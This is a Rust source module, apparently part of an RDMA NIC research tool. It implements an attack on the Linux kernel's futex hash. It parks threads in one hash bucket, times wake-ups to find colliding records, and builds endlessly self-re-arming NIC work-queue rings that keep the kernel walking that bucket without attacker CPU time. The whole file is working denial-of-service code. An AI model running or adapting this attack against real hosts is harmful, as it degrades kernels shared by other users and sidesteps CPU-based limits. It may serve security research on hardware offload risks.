//! Attack on the kernel's futex hash: many threads are parked in the hash bucket of CQs' records,
//! and the kernel walks the bucket at each wake-up of the CQs.
//!
//! ```text
//! ring, for each CQ:  | WRITE: armed = 1 | NOP, signaled |
//! then:               | FAA: index of SEND_EN | SEND_EN |      (repeats)
//! ```
//!
//! The ring makes the NIC arm each CQ and complete on it endlessly, without CPU time of the
//! attacker.

use std::time::Instant;

use anyhow::{Context, Result};
use rnic::port::ARMED;
use rnic::port::control::Verb;
use rustix::thread::futex;
use serde_json::{Value, json};
use verbs::wqe::{Remote, Sge, WQEBB};
use verbs::{Access, DmaMemory, Key};

use crate::Arguments;
use crate::nic::{Nic, part};
use crate::queue::{Qp, Shape};

/// Number of CQs: the NIC thread's limit of wake-ups per round.
const CQS: usize = 4;
/// Building blocks of a CQ's ring.
const BLOCKS: u32 = 64;
/// Candidate records, of which those with the slowest wake-ups are used. Many times the number of
/// the kernel's hash buckets.
const RECORDS: usize = 16 << 10;
/// Bytes from one record to the next.
const APART: usize = 64;
/// Bytes of a parked thread's stack.
const STACK: usize = 16 << 10;

/// Parks `--count` threads, creates CQs in their bucket, and prints a report. Then the NIC wakes
/// the CQs as often as possible, from one line on standard input to the next.
pub fn threads(a: &Arguments) -> Result<Value> {
    let nic = Nic::open(&a.socket)?;
    let pd = nic.pd()?;
    let records = nic.memory(RECORDS * APART)?;
    let key = nic.register(pd, &records, Access::LOCAL_ALL | Access::REMOTE_ALL)?;
    a.ready()?;
    park(&records, a.count)?;
    let slowest = slowest(&records, a.count);
    let shape = Shape::endless(BLOCKS);
    let mut rings = Vec::new();
    for record in &slowest {
        let mut qp = Qp::with_record(&nic, pd, shape, part(&records, record * APART, 8))?;
        let ring = nic.register(pd, &qp.memory, Access::LOCAL_ALL | Access::REMOTE_ALL)?;
        fill(&mut qp, ring, &records, key, *record);
        qp.connect(&nic, qp.qpn)?;
        rings.push(qp);
    }
    a.report(&json!({ "parked": a.count, "records": slowest }))?;
    for qp in &rings {
        nic.verb(Verb::EnableSend { qpn: qp.qpn, limit: BLOCKS as u16 })?;
    }
    a.wait()?;
    let executed = rings.iter().map(|qp| Ok(nic.query(qp.qpn)?.progress.executed));
    Ok(json!({ "executed": executed.sum::<Result<u64>>()? }))
}

/// Fills a ring that arms its CQ before each completion.
fn fill(qp: &mut Qp, ring: Key, records: &DmaMemory, key: Key, record: usize) {
    // The first record belongs to no CQ. Its first half is the value that the WRITEs write, and the
    // threads are parked on its second half. The next 8 bytes receive the results of the FAAs.
    records.word32(0).store(1, std::sync::atomic::Ordering::Relaxed);
    let one = Sge { addr: records.addr(), len: 4, lkey: key };
    let old = Sge { addr: records.addr() + 8, len: 8, lkey: key };
    let armed = Remote { addr: records.addr() + (record * APART + ARMED) as u64, rkey: key };
    for _ in 0..BLOCKS / 2 - 1 {
        qp.put(|b| _ = b.rdma_write(armed, &[one]));
        qp.put(|b| _ = b.nop().signaled());
    }
    // The index is the first half of the word at +24 of the last WQE.
    let last = qp.memory.addr() + (qp.send_at() + (BLOCKS as usize - 1) * WQEBB) as u64;
    let index = Remote { addr: last + 24, rkey: ring };
    let qpn = qp.qpn;
    qp.put(|b| _ = b.fetch_add(index, (BLOCKS as u64) << 32, old));
    qp.put(|b| _ = b.send_enable(qpn, BLOCKS));
}

/// Parks threads on the first record's armed word, for as long as this process lives.
fn park(records: &DmaMemory, count: u64) -> Result<()> {
    for n in 0..count {
        let records = records.clone();
        let parked = std::thread::Builder::new().stack_size(STACK).spawn(move || {
            loop {
                let _ = futex::wait(records.word32(ARMED), futex::Flags::empty(), 0, None);
            }
        });
        parked.with_context(|| format!("parking thread {n}"))?;
    }
    // Gives the threads time to sleep; a few late ones do not matter.
    std::thread::sleep(std::time::Duration::from_millis(200 + count / 2));
    Ok(())
}

/// The records, apart from the first, with the slowest wake-ups. If threads are parked, these
/// records are in the threads' bucket.
fn slowest(records: &DmaMemory, parked: u64) -> Vec<usize> {
    if parked == 0 {
        return (1..=CQS).collect();
    }
    let time = |record: &usize| {
        let once = |_| {
            let start = Instant::now();
            let word = records.word32(*record * APART + ARMED);
            let _ = futex::wake(word, futex::Flags::empty(), 1);
            start.elapsed()
        };
        (0..4).map(once).min().expect("four times")
    };
    let mut times: Vec<_> = (1..RECORDS).map(|record| (time(&record), record)).collect();
    times.sort_unstable();
    times.iter().rev().take(CQS).map(|(_, record)| *record).collect()
}
